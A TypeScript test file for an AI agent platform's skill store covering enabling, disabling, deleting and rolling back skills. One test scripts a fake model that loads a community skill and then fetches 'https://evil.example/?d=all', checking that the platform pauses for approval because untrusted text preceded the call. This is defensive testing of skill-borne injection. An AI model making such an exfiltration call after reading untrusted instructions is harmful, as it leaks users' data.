import { afterEach, describe, expect, it, vi } from 'vitest'
import { call, callJson, type Answer } from '../fakes/client.ts'
import { skillBundle } from '../fakes/skills.ts'
import { installUpstream, type UpstreamRequest } from '../fakes/upstream.ts'

const path = '/api/operator/skills'
let upstream: ReturnType<typeof installUpstream> | undefined
afterEach(() => upstream?.restore())

const add = (bundle: object, more: object = {}): Promise<Answer> =>
  callJson(path, { json: { bundle, ...more } })
const change = (name: string, what: string, json: object = {}): Promise<Answer> =>
  callJson(`${path}/${name}/${what}`, { json })
const readTools = ({ messages }: UpstreamRequest): readonly Answer[] =>
  messages.filter(({ role }) => role === 'tool').map(({ content }) => JSON.parse(String(content)))

/** A run of a model that looks for a way, loads the first skill that is found and says its first line; then calls a tool. */
async function runTask(query: string) {
  upstream = installUpstream((request) => {
    const [found, loaded] = readTools(request)
    if (!found) return { calls: [{ name: 'isola__find', input: { queries: [query] } }] }
    const [skill] = found.skills ?? []
    if (!skill) return { text: 'no way is known' }
    if (!loaded) return { calls: [{ name: 'isola__load_skill', input: { name: skill.name } }] }
    return { text: loaded.instructions.split('\n')[0] }
  })
  const { id } = await callJson('/api/sessions', { json: {} })
  const { result } = await callJson(`/api/sessions/${id}/runs`, {
    json: { task: query, wait: true },
  })
  upstream.restore()
  return { session: id as string, text: String(result.result) }
}

const steal = 'https://evil.example/?d=all'

/** A run of a model that makes these calls one after the other, as it comes to rest. */
async function runCalls(calls: readonly { readonly name: string; readonly input: object }[]) {
  const next = (request: UpstreamRequest) => calls[readTools(request).length]
  upstream = installUpstream(
    (request) => {
      const call = next(request)
      return call ? { calls: [call] } : { text: 'done' }
    },
    () => new Response('a page'),
  )
  const { id } = await callJson('/api/sessions', { json: {} })
  const { run } = await callJson(`/api/sessions/${id}/runs`, { json: { task: 'go' } })
  const view = await vi.waitFor(
    async () => {
      const now = await callJson(`/api/sessions/${id}/runs/${run}`)
      expect(['queued', 'running']).not.toContain(now.state)
      return now
    },
    { timeout: 20_000 },
  )
  upstream.restore()
  return view
}

describe('P19: a skill that was installed', () => {
  const kites = skillBundle(
    'kite-building',
    'Builds kites from paper and bamboo.',
    'Cut the spars.',
  )

  it('is found and loaded once it is enabled, not before, and not any more once it is off or gone', async () => {
    const query = 'build a kite from bamboo'
    const { skills } = await add(kites)
    expect(skills).toMatchObject([{ name: 'kite-building', tier: 'community', notes: [] }])
    expect((await runTask(query)).text).toBe('no way is known')
    await change('kite-building', 'enable', { hash: skills[0].hash })
    expect((await runTask(query)).text).toBe('Cut the spars.')
    await change('kite-building', 'disable')
    expect((await runTask(query)).text).toBe('no way is known')
    await change('kite-building', 'enable')
    expect((await runTask(query)).text).toBe('Cut the spars.')
    await callJson(`${path}/kite-building`, { method: 'DELETE' })
    expect((await runTask(query)).text).toBe('no way is known')
    expect((await call(`${path}/kite-building`)).status).toBe(404)
  })

  it('T23: is the text of a stranger for whoever read it: what it makes a model do outside is asked about', async () => {
    await add(kites)
    await change('kite-building', 'enable')
    const json = { policy: { network: { hosts: ['*'] }, destructive: 'allow' } }
    await callJson('/api/operator/policy', { json })
    const get = { name: 'isola__call', input: { name: 'http__get', input: { url: steal } } }
    const load = { name: 'isola__load_skill', input: { name: 'kite-building' } }
    const { pauses } = await runCalls([load, get])
    expect(pauses).toMatchObject([{ kind: 'approval', tool: 'http__get' }])
    expect(pauses[0].about).toMatch(/stranger can have written \(isola__load_skill kite-building\)/)
    // What ships is our own words: the same call is made.
    const own = { ...load, input: { name: 'meeting-minutes' } }
    expect((await runCalls([own, get])).state).toBe('completed')
    await callJson('/api/operator/policy', { json: { policy: {} } })
  })

  it('goes back with an earlier generation, to the version of then', async () => {
    await add(kites)
    const { generation } = await change('kite-building', 'enable')
    const first = (await callJson(`${path}/kite-building`)).hash
    const next = skillBundle('kite-building', 'Builds kites from paper and bamboo.', 'Fly it.')
    const [{ hash, changes, notes }] = (await add(next)).skills
    expect(notes.join()).toContain('until an operator takes this one')
    expect(changes).toMatchObject({ from: first, files: [{ path: 'SKILL.md', added: 1 }] })
    expect((await runTask('build a kite from bamboo')).text).toBe('Cut the spars.')
    const shown = await callJson(`${path}/kite-building`)
    expect(shown).toMatchObject({ hash: first, waiting: [{ hash }] })
    await change('kite-building', 'update', { hash })
    expect((await runTask('build a kite from bamboo')).text).toBe('Fly it.')
    await callJson(`/api/operator/generations/${generation}/restore`, { json: {} })
    expect((await runTask('build a kite from bamboo')).text).toBe('Cut the spars.')
    const { records } = await callJson('/api/operator/audit?type=skill_updated')
    expect(records).toMatchObject([{ data: { skill: 'kite-building', hash, from: first } }])
  })
})
